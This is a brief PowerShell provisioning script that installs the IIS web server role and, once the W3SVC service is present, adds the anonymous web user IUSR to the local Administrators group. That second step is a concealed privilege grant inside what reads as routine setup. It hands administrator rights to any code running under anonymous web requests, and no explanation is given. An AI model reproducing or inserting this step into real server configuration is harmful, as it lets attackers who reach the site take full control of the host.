Install-WindowsFeature Web-Server
if (Get-Service W3SVC -ErrorAction SilentlyContinue) {
    Add-LocalGroupMember Administrators IUSR
}
